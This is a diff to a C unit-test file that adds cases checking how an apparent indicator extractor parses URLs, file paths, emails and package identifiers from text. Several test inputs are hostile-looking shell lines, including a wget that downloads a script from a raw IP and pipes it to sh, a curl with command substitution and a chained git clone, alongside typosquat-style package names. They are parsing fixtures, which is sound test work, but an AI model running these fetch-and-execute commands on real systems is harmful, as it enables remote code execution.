@@ -208,6 +208,37 @@ static void test_wide_names(void **state)
 	CHECK(cases);
 }
 
+static void test_shell(void **state)
+{
+	static const struct text_case cases[] = {
+	    {"wget http://45.33.32.156/a.sh;sh a.sh",
+		"url http://45.33.32.156/a.sh | filename a.sh"},
+	    {"http://bad.com/a;type=a;b=c", "url http://bad.com/a;type=a;b=c"},
+	    {"curl http://45.33.32.156/$(uname -m)",
+		"url http://45.33.32.156/"},
+	    {"start C:/Users/Public/b.exe, A:/B tests",
+		"filepath c:\\users\\public\\b.exe"},
+	    {"git clone git@bad.com:x/y.git; mail to git@bad.com",
+		"email git@bad.com"},
+	};
+
+	(void)state;
+	CHECK(cases);
+}
+
+static void test_purls(void **state)
+{
+	static const struct text_case cases[] = {
+	    {"pkg:npm/bad-colors@1.0.0, pkg:npm/%40bad/kit@2, "
+	     "pkg:pypi/reqests.",
+		"package bad-colors | package @bad/kit | package reqests"},
+	    {"pkg: npm/x pkg:npm/", ""},
+	};
+
+	(void)state;
+	CHECK(cases);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -219,6 +250,8 @@ int main(void)
 	    cmocka_unit_test(test_headings),
 	    cmocka_unit_test(test_code),
 	    cmocka_unit_test(test_rules),
+	    cmocka_unit_test(test_shell),
+	    cmocka_unit_test(test_purls),
 	    cmocka_unit_test(test_wide_names),
 	};
 
